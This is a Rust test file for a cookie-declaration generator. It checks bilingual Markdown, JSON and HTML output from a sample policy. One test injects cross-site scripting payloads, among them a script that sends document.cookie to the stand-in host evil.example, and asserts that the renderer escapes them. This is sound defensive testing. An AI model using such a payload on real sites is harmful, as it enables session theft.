//! The public declaration: view, HTML, Markdown and JSON renderings.
//!
//! Markdown and JSON are compared with the snapshots in `tests/snapshots/` (run with
//! `UPDATE_SNAPSHOTS=1` to rewrite them after a deliberate change, then review the diff).

use std::path::PathBuf;

use cookie_warden_core::declaration::{DeclarationView, Lang, LifetimeClass, render_html};
use cookie_warden_core::policy::{CompiledPolicy, from_toml_str};
use quick_xml::events::Event;

const POLICY: &str = r#"
version = 1

[enforcement]
max_lifetime = "400d"

[consent]
cookie = "consent"

[declaration]
path = "/cookies"
title = { sv = "Om cookies på exempel.se", en = "About cookies on example.se" }
introduction = { sv = "Vi använder cookies.\n\nNödvändiga cookies kan du inte välja bort.", en = "We use cookies.\n\nYou cannot opt out of necessary ones." }
owner = "Exempel AB"
contact = "dpo@example.se"

[[scope]]
id = "public"
hosts = ["example.se", "www.example.se"]
title = { sv = "Cookies på example.se", en = "Cookies on example.se" }

[[scope]]
id = "login"
hosts = ["login.example.se"]
paths = ["/auth", "/sso"]
title = { sv = "Cookies vid inloggning", en = "Cookies when signing in" }
description = { sv = "De försvinner när du stänger webbläsaren.", en = "They are gone when you close the browser." }

[[scope]]
id = "empty"
hosts = ["static.example.se"]

[[cookie]]
name = "__Host-csrf"
lifetime = "session"
purpose = { sv = "Skyddar formulär (CSRF-skydd).", en = "Protects forms (CSRF protection)." }

[[cookie]]
name = "accepted_cookies"
scopes = ["public"]
lifetime = "persistent"
purpose = { sv = "Kommer ihåg att du har sett informationen | *inte* mer.", en = "Remembers that you saw the notice | *nothing* more." }

[[cookie]]
name = "ai_user"
scopes = ["public", "login"]
category = "statistics"
lifetime = "12 months"
provider = "Microsoft"
purpose = { sv = "Räknar användare <över tid>." }

[[cookie]]
name = "saplb_*"
scopes = ["login"]
lifetime = "session"

[[cookie]]
name = "refreshToken_{realm}_SAPEP"
placeholders = { realm = "[A-Z]+" }
scopes = ["login"]
category = "functional"
lifetime = "1h"
http_only = false
purpose = { sv = "Används vid autentisering.", en = "Used when signing in." }

[[cookie]]
name = "ai_session"
scopes = ["login"]
category = "statistics"
lifetime = "30m"
purpose = { en = "Counts sessions\nfor performance." }
"#;

fn policy() -> CompiledPolicy {
    match from_toml_str("declaration.toml", POLICY) {
        Ok(loaded) => loaded.policy,
        Err(errors) => panic!("the test policy loads: {errors}"),
    }
}

fn snapshot(name: &str, actual: &str) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/snapshots")
        .join(name);
    if std::env::var_os("UPDATE_SNAPSHOTS").is_some() {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|err| {
        panic!(
            "{}: {err} (run with UPDATE_SNAPSHOTS=1 to create it)",
            path.display()
        )
    });
    assert!(
        expected == actual,
        "{} differs from the rendering (run with UPDATE_SNAPSHOTS=1 and review the diff):\n{actual}",
        path.display()
    );
}

#[test]
fn markdown_snapshots() {
    let policy = policy();
    for lang in Lang::ALL {
        let markdown = DeclarationView::new(&policy, lang).to_markdown();
        snapshot(&format!("declaration.{lang}.md"), &markdown);
    }
}

#[test]
fn json_snapshots() {
    let policy = policy();
    for lang in Lang::ALL {
        let json = DeclarationView::new(&policy, lang).to_json();
        let value: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(value["schema_version"], 1);
        snapshot(&format!("declaration.{lang}.json"), &json);
    }
}

#[test]
fn sections_follow_policy_order_with_every_scope_cookies_first() {
    let policy = policy();
    let view = DeclarationView::new(&policy, Lang::En);
    let scopes: Vec<_> = view.sections.iter().map(|s| s.scope).collect();
    assert_eq!(scopes, [None, Some("public"), Some("login"), Some("empty")]);
    let names = |i: usize| {
        view.sections[i]
            .cookies
            .iter()
            .map(|c| c.name)
            .collect::<Vec<_>>()
    };
    assert_eq!(names(0), ["__Host-csrf"]);
    assert_eq!(names(1), ["accepted_cookies", "ai_user"]);
    assert_eq!(
        names(2),
        ["ai_user", "saplb_*", "refreshToken_{realm}_SAPEP", "ai_session"]
    );
    assert!(names(3).is_empty());
    assert_eq!(
        view.sections[3].title.text, "empty",
        "a scope without a title shows its id"
    );
}

#[test]
fn lifetimes_and_categories_in_words() {
    let policy = policy();
    let sv = DeclarationView::new(&policy, Lang::Sv);
    let en = DeclarationView::new(&policy, Lang::En);
    let find = |view: &DeclarationView<'_>, name: &str| {
        let cookie = view
            .sections
            .iter()
            .flat_map(|s| &s.cookies)
            .find(|c| c.name == name)
            .unwrap();
        (
            cookie.lifetime_text.text.to_string(),
            cookie.category_text.text.to_string(),
            cookie.lifetime,
        )
    };
    assert_eq!(find(&sv, "__Host-csrf").0, "Sessionscookie");
    assert_eq!(find(&en, "__Host-csrf").0, "Session cookie");
    assert_eq!(
        find(&sv, "accepted_cookies").0,
        "Permanent cookie (upp till 400 dagar)"
    );
    assert_eq!(
        find(&en, "accepted_cookies").0,
        "Persistent cookie (up to 400 days)"
    );
    assert_eq!(
        find(&sv, "ai_user").0,
        "Temporär cookie (försvinner efter 12 månader)"
    );
    assert_eq!(find(&sv, "ai_user").1, "Statistik");
    assert_eq!(
        find(&en, "refreshToken_{realm}_SAPEP").0,
        "Temporary cookie (expires after 1 hour)"
    );
    assert_eq!(find(&en, "refreshToken_{realm}_SAPEP").1, "Functional");
    assert_eq!(
        find(&sv, "ai_session").0,
        "Temporär cookie (försvinner efter 30 minuter)"
    );
    assert_eq!(
        find(&en, "ai_session").2,
        LifetimeClass::Duration { seconds: 1_800 }
    );
}

#[test]
fn consent_column_only_with_a_consent_table() {
    let policy = policy();
    let view = DeclarationView::new(&policy, Lang::En);
    let cookies: Vec<_> = view.sections.iter().flat_map(|s| &s.cookies).collect();
    assert!(
        cookies
            .iter()
            .all(|c| c.consent_required == Some(c.category.as_str() != "necessary"))
    );

    let without = from_toml_str(
        "p.toml",
        "version = 1\n[[cookie]]\nname = \"a\"\nlifetime = \"session\"\ncategory = \"marketing\"\n",
    )
    .unwrap()
    .policy;
    let view = DeclarationView::new(&without, Lang::En);
    assert_eq!(view.sections[0].cookies[0].consent_required, None);
    assert!(!view.to_html().contains(">Consent<"));
    assert!(!view.to_markdown().contains("Consent"));
}

#[test]
fn policy_texts_fall_back_to_another_language_and_say_so() {
    let policy = policy();
    let view = DeclarationView::new(&policy, Lang::En);
    let ai_user = view.sections[1]
        .cookies
        .iter()
        .find(|c| c.name == "ai_user")
        .unwrap();
    let purpose = ai_user.purpose.as_ref().unwrap();
    assert_eq!(
        (&*purpose.text, &*purpose.lang),
        ("Räknar användare <över tid>.", "sv")
    );
    let html = view.to_html();
    assert!(
        html.contains(r#"lang="sv" xml:lang="sv">Räknar användare &lt;över tid&gt;.</td>"#),
        "{html}"
    );
}

/// An element's name and attributes.
type Element = (String, Vec<(String, String)>);

/// Walks the page with a strict XML reader (the page is polyglot HTML5 / XHTML): every element
/// closed and nested, every entity known. Returns the text content and the element names seen.
fn parse_page(html: &str) -> (String, Vec<Element>) {
    let mut reader = quick_xml::Reader::from_str(html);
    let mut text = String::new();
    let mut elements = Vec::new();
    loop {
        match reader.read_event() {
            Ok(Event::Start(start)) | Ok(Event::Empty(start)) => {
                let name = String::from_utf8(start.name().as_ref().to_vec()).unwrap();
                let attributes = start
                    .attributes()
                    .map(|a| {
                        let a = a.expect("well-formed attribute");
                        (
                            String::from_utf8(a.key.as_ref().to_vec()).unwrap(),
                            a.unescape_value()
                                .expect("attribute value unescapes")
                                .into_owned(),
                        )
                    })
                    .collect();
                elements.push((name, attributes));
            }
            Ok(Event::Text(t)) => text.push_str(&t.decode().unwrap()),
            Ok(Event::GeneralRef(r)) => {
                let name = r.decode().unwrap();
                let resolved = match &*name {
                    "lt" => '<',
                    "gt" => '>',
                    "amp" => '&',
                    "quot" => '"',
                    "apos" => '\'',
                    _ => r
                        .resolve_char_ref()
                        .expect("a valid character reference")
                        .expect("only known entities"),
                };
                text.push(resolved);
            }
            Ok(Event::Eof) => break,
            Ok(_) => {}
            Err(err) => panic!(
                "not well-formed at byte {}: {err}\n{html}",
                reader.buffer_position()
            ),
        }
    }
    assert!(!elements.is_empty());
    (text, elements)
}

#[test]
fn html_page_is_well_formed_accessible_and_self_contained() {
    let policy = policy();
    let html = render_html(&policy, Lang::Sv);
    assert!(html.starts_with("<!DOCTYPE html>\n"));
    let (text, elements) = parse_page(&html);
    let count = |name: &str| elements.iter().filter(|(n, _)| n == name).count();
    let attr = |name: &str, key: &str| -> Vec<String> {
        elements
            .iter()
            .filter(|(n, _)| n == name)
            .filter_map(|(_, attrs)| attrs.iter().find(|(k, _)| k == key).map(|(_, v)| v.clone()))
            .collect()
    };
    assert_eq!(attr("html", "lang"), ["sv"]);
    assert_eq!(count("h1"), 1);
    // Three sections with cookies (every-scope, public, login) get a table; the empty scope does not.
    assert_eq!(count("table"), 3);
    assert_eq!(count("caption"), 3);
    assert_eq!(count("section"), 4);
    let scopes = attr("th", "scope");
    assert_eq!(
        scopes.iter().filter(|s| *s == "col").count(),
        3 * 6,
        "six column headers per table"
    );
    assert_eq!(
        scopes.iter().filter(|s| *s == "row").count(),
        1 + 2 + 4,
        "one row header per cookie"
    );
    assert_eq!(attr("meta", "name"), ["viewport", "generator"]);
    for forbidden in ["script", "link", "img", "iframe", "object"] {
        assert_eq!(
            count(forbidden),
            0,
            "no <{forbidden}>: the page needs nothing from elsewhere"
        );
    }
    let without_namespace = html.replace("xmlns=\"http://www.w3.org/1999/xhtml\"", "");
    for external in ["http://", "https://", "url(", "src=", "@import"] {
        assert!(!without_namespace.contains(external), "no {external}");
    }
    assert!(
        html.contains("@media (max-width:40rem)"),
        "a narrow-screen layout"
    );
    assert_eq!(attr("a", "href"), ["mailto:dpo@example.se"]);
    for words in [
        "Sessionscookie",
        "Permanent cookie (upp till 400 dagar)",
        "Temporär cookie (försvinner efter 1 timme)",
        "Kommer ihåg att du har sett informationen | *inte* mer.",
        "Räknar användare <över tid>.",
        "Statistik",
        "Krävs inte",
        "Microsoft",
        "Exempel AB",
    ] {
        assert!(text.contains(words), "the page says {words:?}");
    }
}

#[test]
fn html_escapes_a_script_in_a_description() {
    let policy = from_toml_str(
        "evil.toml",
        r#"
version = 1
[declaration]
title = { en = "</title><script>alert(1)</script>" }
[[scope]]
id = "s"
hosts = ["example.com"]
title = { en = "<b onmouseover=\"x\">scope</b>" }
[[cookie]]
name = "sid"
scopes = ["s"]
lifetime = "session"
provider = "A & B <i>"
purpose = { en = "<script>document.location='https://evil.example/?c='+document.cookie</script>" }
"#,
    )
    .unwrap()
    .policy;
    let html = render_html(&policy, Lang::En);
    let (text, elements) = parse_page(&html);
    assert!(
        elements
            .iter()
            .all(|(name, _)| name != "script" && name != "b" && name != "i"),
        "{html}"
    );
    assert!(text.contains("<script>document.location='https://evil.example/?c='+document.cookie</script>"));
    assert!(text.contains("</title><script>alert(1)</script>"));
    assert!(html.contains("&lt;script&gt;document.location="));
    assert!(!html.contains("<script"));

    let markdown = DeclarationView::new(&policy, Lang::En).to_markdown();
    let unescaped_angles = markdown.replace("\\<", "").replace("<br>", "");
    assert!(!unescaped_angles.contains('<'), "every < is escaped: {markdown}");
    assert!(markdown.contains("\\<script\\>"));
    let json = DeclarationView::new(&policy, Lang::En).to_json();
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(
        value["sections"][0]["cookies"][0]["purpose"],
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    );
}
